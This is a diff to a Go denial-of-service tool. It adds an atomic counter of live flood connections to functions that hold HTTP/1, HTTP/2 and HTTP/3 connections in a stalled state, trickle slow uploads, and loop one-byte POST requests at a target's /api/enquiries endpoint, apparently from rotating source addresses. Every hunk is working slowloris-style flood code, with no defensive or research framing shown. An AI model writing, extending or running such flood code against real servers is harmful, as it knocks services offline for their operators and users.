@@ -11,6 +11,7 @@ import (
 	"net/http"
 	"strings"
 	"sync"
+	"sync/atomic"
 	"time"
 
 	"github.com/quic-go/quic-go"
@@ -29,6 +30,8 @@ type flood struct {
 type target struct {
 	addr    string
 	percent int
+	// up counts the connections whose flood has begun.
+	up *atomic.Int64
 }
 
 func (t target) scaled(n int) int { return max(1, n*t.percent/100) }
@@ -121,6 +124,7 @@ func stalledHTTP2(ctx context.Context, t target, from, method string) error {
 	if _, err := conn.Write(out.Bytes()); err != nil {
 		return err
 	}
+	t.up.Add(1)
 	return answerPings(conn)
 }
 
@@ -170,6 +174,7 @@ func stalledHTTP1(ctx context.Context, t target, from string) error {
 			return err
 		}
 	}
+	t.up.Add(1)
 	_, err = io.Copy(io.Discard, conn)
 	return err
 }
@@ -214,6 +219,7 @@ func stalledHTTP3(ctx context.Context, t target, from string) error {
 			return err
 		}
 	}
+	t.up.Add(1)
 	select {
 	case <-ctx.Done():
 		return conn.CloseWithError(0, "")
@@ -240,6 +246,7 @@ func slowUpload(ctx context.Context, t target, from string) error {
 	if _, err := io.WriteString(conn, head); err != nil {
 		return err
 	}
+	t.up.Add(1)
 	ticks := time.NewTicker(time.Second)
 	defer ticks.Stop()
 	for {
@@ -261,6 +268,7 @@ func slowUpload(ctx context.Context, t target, from string) error {
 func oneByte(ctx context.Context, t target, from string) error {
 	client := visitor(from)
 	defer client.CloseIdleConnections()
+	t.up.Add(1)
 	for ctx.Err() == nil {
 		request, err := http.NewRequestWithContext(ctx, http.MethodPost, "https://"+t.addr+"/api/enquiries", strings.NewReader("x"))
 		if err != nil {
